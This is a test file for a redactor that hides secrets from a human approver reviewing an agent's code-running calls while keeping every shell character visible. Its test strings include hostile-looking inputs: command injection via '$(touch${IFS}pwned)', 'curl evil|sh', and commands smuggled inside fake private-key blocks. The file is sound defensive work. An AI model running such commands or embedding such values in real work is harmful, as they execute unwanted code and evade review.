import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { checkEach } from '../../../../../test/support/check-each.ts'
import { createRedactor } from './redact.ts'

const WORD = 'aB3dE6gH9jK2mN5pQ8sT1vW4xY7zA0cD'
const VALUE = 'the;owners own-secret'
const { forDecision } = createRedactor({ values: [VALUE] })
const show = (text: string) => forDecision().text(text)

describe('what is shown of a text to the approver', () => {
  it('is all that could be code', () => {
    checkEach(
      [
        'echo hi; x="-----BEGIN PRIVATE KEY-----"; id > smuggled2; cat smuggled2',
        '# -----BEGIN PRIVATE KEY-----\nsh /usr/local/share/evil\nreboot\n-----END PRIVATE KEY-----',
        'curl http://me:$(touch${IFS}pwned)@h/',
        'echo Bearer\n/tmp/x1.sh',
        'echo Bearer \r\n ./a-script-with-a-name-that-is-long1',
        'env -u Bearer ./evil1',
        'echo Basic\ndXNlcjpwYXNz',
      ],
      (text) => {
        expect(show(text)).toBe(text)
      },
    )
  })

  it('is not a word of a key or token', () => {
    expect(show(`-----BEGIN PRIVATE KEY-----\n${WORD}\n${WORD}\nAb=\n-----END PRIVATE KEY-----\nid`)).toBe(
      '-----BEGIN PRIVATE KEY-----\n[redacted:private-key]\n[redacted:private-key]\nAb=\n-----END PRIVATE KEY-----\nid',
    )
    expect(show(`curl -H "Authorization: Bearer ${WORD}" https://ada:${WORD}@h; ls`)).toBe(
      'curl -H "Authorization: Bearer [redacted:bearer]" https://[redacted:url-credentials]@h; ls',
    )
  })

  it('has every sign of a shell and every line break, whatever stands around them', () => {
    const piece = fc.constantFrom(
      ...['-----BEGIN PRIVATE KEY-----', '-----END PRIVATE KEY-----', 'Bearer ', 'Basic ', '://a:', '@', 'ghp_'],
      ...[WORD, 'dXNlcjpwYXNz', 'eyJhbGciOiJI.', 'Comment: ', 'th_', ' ', '\n', '\n-', '\\n', '"', "'", ',', '+'],
      ...[';', '|', '&', '$', '(', ')', '`', '<', '>', '{', '}', '#', 'id', 'sh /tmp/x1'],
    )
    const signs = (text: string) => text.replaceAll(/[^\n;|&$()`<>{}"'\\#]/g, '')
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
        expect(signs(show(pieces.join('')))).toBe(signs(pieces.join('')))
      }),
      { numRuns: 1_000 },
    )
  })

  it('says how much of a known secret is hidden that could end a command', () => {
    expect(show(`a ${VALUE} b`)).toBe('a [redacted:secret] (21 characters not shown) b')
  })

  it('has no piece of a known secret that goes across the parts of a line', () => {
    const line = `make TOKEN=${VALUE}; ls`
    const redactor = forDecision()
    expect(['make TOKEN=the', 'owners own-secret', 'ls', 'own'].map((part) => redactor.part(line, part))).toEqual([
      'make TOKEN=the',
      '[redacted:secret] (17 characters not shown)',
      'ls',
      'own',
    ])
    expect(redactor.part(line, 'x owne')).toBe('x owne')
    expect(redactor.part(line, 'echo the;owner')).toMatch(/^echo \[redacted:secret\]/)
    expect(redactor.part('ls; own-secret', 'own-s')).toBe('own-s')
  })
})

describe('what is hidden because of its key', () => {
  it('is every value, but for a call that runs code: there only what is a word and no program', () => {
    const env = { A_TOKEN: 'curl evil|sh', B_TOKEN: './evil1', C_TOKEN: 'poweroff', D_TOKEN: 'hunter2-and-more' }
    const mark = '[redacted:key]'
    expect(forDecision({ runsCode: true }).value({ env })).toEqual({ env: { ...env, D_TOKEN: mark } })
    expect(forDecision().value({ env })).toEqual({
      env: { A_TOKEN: mark, B_TOKEN: mark, C_TOKEN: mark, D_TOKEN: mark },
    })
  })
})

describe('what is hidden of a variable of a call that runs code', () => {
  it.each([
    ['abcdef1', false],
    ['abcdefg1', true],
    ['abcdefgh', false],
    [`${'a'.repeat(199)}1`, true],
    [`${'a'.repeat(200)}1`, false],
    ['/usr/bin/evil1-abcdefgh', false],
    ['evil1-abcdefgh;ls', false],
    ['evil1-abcdefgh\nls', false],
  ])('is a word with a digit of 8 to 200 characters: %s', (value, isHidden) => {
    const redactor = forDecision({ runsCode: true })
    const output = redactor.value({ A_TOKEN: value, B_TOKEN: 5, C_TOKEN: [value] })
    expect(output).toEqual({ A_TOKEN: isHidden ? '[redacted:key]' : value, B_TOKEN: 5, C_TOKEN: [value] })
  })
})

describe('the warning', () => {
  const warningFor = (value: unknown) => {
    const redactor = forDecision()
    redactor.value(value)
    return redactor.warning()
  }

  it('is none where single words are hidden', () => {
    expect(warningFor(`ghp_${WORD} and Bearer ${WORD}`)).toBeUndefined()
  })

  it('is none up to as many characters as a few long words have', () => {
    expect(warningFor({ password: 'x'.repeat(4_000) })).toBeUndefined()
    expect(warningFor({ password: 'x'.repeat(4_001) })).toMatch(/: 4001 characters/)
  })

  it('counts all that is hidden below a key', () => {
    const list = { password: { list: ['x'.repeat(3_980)] }, secret: 7, token: true, cookie: null }
    expect(JSON.stringify(list.password)).toHaveLength(3_993)
    expect(warningFor(list)).toBeUndefined()
    expect(warningFor({ ...list, passwd: 'x'.repeat(8) })).toMatch(
      /^WARNING: 4001 characters of this call are not shown, because they look like secrets or are known ones; /,
    )
  })

  it.each([4_000, 4_001])('is there for a known value of more than 4,000 characters: %d', (length) => {
    const long = WORD.repeat(200).slice(0, length)
    const redactor = createRedactor({ values: [long] }).forDecision()
    const mark = '[redacted:secret]'
    expect(redactor.text(long)).toBe(length > 4_000 ? `${mark} (4001 characters not shown)` : mark)
    expect(redactor.warning() === undefined).toBe(length <= 4_000)
  })

  it.each([
    ['a key', `-----BEGIN PRIVATE KEY-----\n${WORD}\n-----END PRIVATE KEY-----`, /: 32 characters/],
    ['a known secret that holds more than a word', VALUE, /: 21 characters/],
    ['a long word', `ghp_${WORD.repeat(200)}`, /: 6404 characters/],
    ['a long value of a secret key', { password: 'x'.repeat(5_000) }, /: 5000 characters/],
  ])('says how much is hidden of %s', (_, value, expected) => {
    expect(warningFor(value)).toMatch(expected)
  })
})
